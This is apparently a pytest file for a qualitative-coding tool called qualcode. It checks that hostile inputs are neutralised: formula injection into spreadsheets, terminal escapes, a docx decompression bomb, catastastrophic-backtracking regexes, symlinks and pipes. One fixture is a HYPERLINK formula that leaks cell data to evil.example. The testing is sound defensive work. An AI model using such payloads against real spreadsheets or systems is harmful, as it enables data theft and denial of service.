"""Hostile inputs, one class per test: formula injection into spreadsheets, terminal escapes, accept-all that
must settle everything, Word content outside plain paragraphs, decompression bombs, regexes that never end,
caption markup, exports and links leaving the project, undecodable piped keys, attribute names that collide
with qualcode's own columns. Each builds its own small project; none needs the network."""

from __future__ import annotations

import csv
import io
import os
import signal
import string
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import SMALL_CODEBOOK, call, open_store, write
from rich.console import Console
from typer.testing import CliRunner

from qualcode.cli import app
from qualcode.errors import TranscriptError
from qualcode.exchange.export import export
from qualcode.ingest.readers import docx_text, srt_text, vtt_text
from qualcode.ingest.transcripts import read_transcript
from qualcode.run.coding import code

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def project_with(tmp_path: Path, transcripts: dict[str, str], codebook: str = SMALL_CODEBOOK, settings: str = "") -> Path:
    write(tmp_path / "codebook.yaml", codebook)
    (tmp_path / "qualcode.yaml").write_text(settings or "retrain_after: 0\n", encoding="utf-8")
    for name, text in transcripts.items():
        path = tmp_path / "transcripts" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return tmp_path


@pytest.fixture(autouse=True)
def _own_sqlite_project(monkeypatch):
    monkeypatch.delenv("QUALCODE_DATABASE_URL", raising=False)  # each test's project is one of its own


def test_text_that_looks_like_a_formula_stays_text_in_xlsx_and_is_neutralised_in_csv(tmp_path):
    project = project_with(tmp_path, {
        "lead-01.txt": f"---\nrole: lead\nsector: '@SUM(1+1)'\n---\nInterviewer: Q?\n\nRespondent: {FORMULA} the deadline.\n\n"
                       "Interviewer: More?\n\nRespondent:   -2+3 and the deadline again\n",
    })
    call(code, project)
    call(export, project, formats="xlsx,csv", status="suggested")
    from openpyxl import load_workbook

    workbook = load_workbook(project / "exports" / "themes.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert f"{FORMULA} the deadline." in texts and "@SUM(1+1)" in texts
    with (project / "exports" / "codings.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["text"] for row in rows} == {f"'{FORMULA} the deadline.", "'-2+3 and the deadline again"}
    assert {row["sector"] for row in rows} == {"'@SUM(1+1)"}
    # Turned off, for those who read the CSVs with code.
    (project / "qualcode.yaml").write_text("retrain_after: 0\ncsv_formula_guard: false\n", encoding="utf-8")
    call(export, project, formats="csv", status="suggested")
    with (project / "exports" / "codings.csv").open(encoding="utf-8") as handle:
        assert {row["sector"] for row in csv.DictReader(handle)} == {"@SUM(1+1)"}


def test_no_terminal_control_reaches_the_screen_from_metadata_file_names_or_text(tmp_path):
    evil = "\x1b]0;owned\x07\x1b[31mred\u202eeslaf"
    project = project_with(tmp_path, {
        "lead-01.txt": f"---\nrole: \"lead{evil}\"\n---\nInterviewer: Q?\n\nRespondent: The deadline \u009b31m and {evil[-6:]} too.\n",
    })
    call(code, project)
    with open_store(project) as store:
        assert "\u009b" not in store.transcript_text("lead-01")  # C1 controls become spaces, offsets kept
    for command in (["status"], ["stats", "--status", "suggested"], ["codebook"]):
        result = runner.invoke(app, [*command, "--project", str(project)], env={"NO_COLOR": "1", "COLUMNS": "120"})
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\u202e" not in result.output and "\x07" not in result.output, command
    from qualcode.cli.review import render_screen
    from qualcode.project import Project
    from qualcode.review.session import ReviewSession

    with Project.open(project) as opened:
        session = ReviewSession(opened, coder="ann")
        console = Console(file=io.StringIO(), width=80, height=24, color_system=None)
        console.print(render_screen(session, plain=True))
    screen = console.file.getvalue()
    assert "deadline" in screen and not any(char in screen for char in ("\x1b", "\u202e", "\u009b", "\x07"))


def test_accept_all_settles_every_suggestion_even_past_nine(tmp_path):
    words = [f"word{letter}" for letter in "abcdefghijkl"]
    codebook = "name: many\ncodes:\n" + "".join(f"  - id: code-{index}\n    keywords: [{word}]\n" for index, word in enumerate(words))
    project = project_with(tmp_path, {"lead-01.txt": "Interviewer: Q?\n\nRespondent: " + " ".join(words) + ".\n"}, codebook=codebook)
    call(code, project)
    result = runner.invoke(app, ["review", "--project", str(project), "--coder", "ann", "--plain"], input="aq")
    assert result.exit_code == 0
    assert "\n12 " in result.output  # every suggestion shown, numbered on past nine
    with open_store(project) as store:
        verdicts = [(row.code, row.verdict) for row in store.decisions("ann") if row.code]
    assert len(verdicts) == 12 and {verdict for _code, verdict in verdicts} == {"accepted"}


def _docx(body_xml: str) -> bytes:
    import docx

    document = docx.Document()
    buffer = io.BytesIO()
    document.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                text = data.decode("utf-8")
                start = text.index("<w:body>") + len("<w:body>")
                data = (text[:start] + body_xml + text[start:]).encode("utf-8")
            target.writestr(item, data)
    return out.getvalue()


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def test_word_tables_tracked_insertions_and_content_controls_are_read_deletions_are_not():
    body = (
        _p("Interviewer: How was it?")
        + "<w:p><w:r><w:t xml:space=\"preserve\">Respondent: It was </w:t></w:r><w:ins w:id=\"1\" w:author=\"x\"><w:r><w:t>really </w:t></w:r></w:ins>"
          "<w:del w:id=\"2\" w:author=\"x\"><w:r><w:delText>not </w:delText></w:r></w:del><w:r><w:t>hard.</w:t></w:r></w:p>"
        + "<w:tbl><w:tr><w:tc>" + _p("Interviewer") + "</w:tc><w:tc>" + _p("And the deadline?") + "</w:tc></w:tr>"
          "<w:tr><w:tc>" + _p("Respondent") + "</w:tc><w:tc>" + _p("Far too short.") + "</w:tc></w:tr></w:tbl>"
        + "<w:sdt><w:sdtContent>" + _p("Interviewer: Anything else?") + _p("Respondent: Only the money.") + "</w:sdtContent></w:sdt>"
    )
    text = docx_text(Path("t.docx"), _docx(body))
    assert text.split("\n\n") == [
        "Interviewer: How was it?", "Respondent: It was really hard.", "Interviewer: And the deadline?",
        "Respondent: Far too short.", "Interviewer: Anything else?", "Respondent: Only the money.",
    ]


def test_a_docx_decompression_bomb_is_skipped_before_it_is_parsed():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b" " * (80 * 1024 * 1024) + b"</w:document>")
    assert len(buffer.getvalue()) < 1024 * 1024
    with pytest.raises(TranscriptError, match="expands to 80 MB .*times its packed size.*a compressed bomb is not an interview"):
        docx_text(Path("bomb.docx"), buffer.getvalue())


@pytest.mark.parametrize("regex", ["^(a+)+$", "(a|aa)*b", "(\\w+\\s?)*$", "(x)\\1"])
def test_token_regexes_that_can_run_for_minutes_are_refused_where_they_are_written(tmp_path, regex):
    codebook = f"name: r\ncodes:\n  - id: slow\n    patterns:\n      - [{{TEXT: {{REGEX: '{regex}'}}}}]\n"
    write(tmp_path / "codebook.yaml", codebook)
    result = runner.invoke(app, ["codebook", "--check", "--project", str(tmp_path)], env={"COLUMNS": "200"})
    assert result.exit_code == 1
    assert "codebook.yaml:5: codes[0].patterns[0][0]: unsafe REGEX" in " ".join(result.output.split())


def test_safe_token_regexes_still_load(tmp_path):
    write(tmp_path / "codebook.yaml", "name: r\ncodes:\n  - id: ok\n    patterns:\n      - [{TEXT: {REGEX: '^dead(line)?s?$'}}]\n")
    assert runner.invoke(app, ["codebook", "--check", "--project", str(tmp_path)]).exit_code == 0


def test_caption_entities_are_decoded_and_each_voice_keeps_its_turn():
    vtt = "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Ann>Fish &amp; chips?</v> <v Bob>Yes &lt;3</v>\n\n00:00:03.000 --> 00:00:04.000\n<v Bob>More.\n"
    assert vtt_text(Path("a.vtt"), vtt) == "Ann: Fish & chips?\n\nBob: Yes <3 More."
    srt = "1\n00:00:01,000 --> 00:00:02,000\n- Interviewer: Was it tight?\n- Respondent: Very.\n\n2\n00:00:02,500 --> 00:00:04,000\n- Yes.\n- No.\n"
    assert srt_text(Path("a.srt"), srt) == "Interviewer: Was it tight?\n\nRespondent: Very.\n\nYes.\n\nNo."


def test_exports_leave_the_project_only_when_asked(tmp_path):
    project = project_with(tmp_path / "study", {"lead-01.txt": "Interviewer: Q?\n\nRespondent: The deadline.\n"},
                           settings="retrain_after: 0\nexports: ../../outside\n")
    call(code, project)
    refused = runner.invoke(app, ["export", "--project", str(project), "--format", "csv"], env={"COLUMNS": "300"})
    assert refused.exit_code == 1 and "points outside the project" in refused.output and "--output" in refused.output
    assert not (tmp_path.parent / "outside").exists()
    asked = runner.invoke(app, ["export", "--project", str(project), "--format", "csv", "--output", str(tmp_path / "elsewhere")])
    assert asked.exit_code == 0 and (tmp_path / "elsewhere" / "codings.csv").exists()


def test_links_leading_outside_the_project_are_named_and_pipes_are_never_read(tmp_path):
    outside = tmp_path / "elsewhere" / "partner-01.txt"
    write(outside, "Interviewer: Q?\n\nRespondent: The deadline, from elsewhere.\n")
    project = project_with(tmp_path / "study", {"lead-01.txt": "Interviewer: Q?\n\nRespondent: The deadline.\n"})
    (project / "transcripts" / "partner-01.txt").symlink_to(outside)
    os.mkfifo(project / "transcripts" / "pipe.txt")
    result = runner.invoke(app, ["code", "--project", str(project)], env={"COLUMNS": "300"})
    output = " ".join(result.output.split())
    assert "partner-01.txt: a link to" in output and "outside the project" in output
    assert "pipe.txt: not an ordinary file" in output and result.exit_code == 3
    with open_store(project) as store:
        assert sorted(store.transcripts()) == ["lead-01", "partner-01"]


def test_undecodable_bytes_piped_into_review_are_unknown_keys_not_a_traceback(tmp_path):
    project = project_with(tmp_path, {"lead-01.txt": "Interviewer: Q?\n\nRespondent: The deadline.\n"})
    call(code, project)
    done = subprocess.run([sys.executable, "-m", "qualcode", "review", "--project", str(project), "--coder", "ann"],
                          input=b"\xff\xfe\xc3a", capture_output=True, timeout=120, env={**os.environ, "NO_COLOR": "1"})
    assert done.returncode == 0, done.stderr.decode()
    assert b"Traceback" not in done.stderr and b"Unknown key" in done.stdout
    with open_store(project) as store:
        assert [(row.code, row.verdict) for row in store.decisions("ann")] == [("timescale", "accepted"), (None, "reviewed")]


def test_attribute_names_never_replace_qualcodes_own_columns(tmp_path):
    project = project_with(tmp_path, {"lead-01.txt": "Interviewer: Q?\n\nRespondent: The deadline.\n"})
    write(project / "transcripts" / "metadata.csv", "transcript,role,code,text,timescale\nlead-01,lead,X1,hello,yes\n")
    call(code, project)
    call(export, project, formats="csv,xlsx", status="suggested")
    with (project / "exports" / "codings.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0])[-4:] == ["role", "attribute:code", "attribute:text", "timescale"]
    assert rows[0]["code"] == "timescale" and rows[0]["attribute:code"] == "X1" and rows[0]["text"] == "The deadline."
    with (project / "exports" / "respondents.csv").open(encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header.count("timescale") == 1 and "attribute:timescale" in header


@pytest.mark.parametrize("char", list(string.punctuation))
def test_long_runs_of_punctuation_are_read_in_linear_time(char):
    def too_long(*_args):
        raise TimeoutError(f"a run of {char!r} took more than 20 s")

    previous = signal.signal(signal.SIGALRM, too_long)
    signal.alarm(20)  # a hang guard, not a speed test: linear work takes well under a second
    try:
        transcript = read_transcript(Path("x.txt"), data=("Interviewer: Q?\n\nRespondent: deadline " + char * 60000 + " end\n").encode())
        assert transcript.segments
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
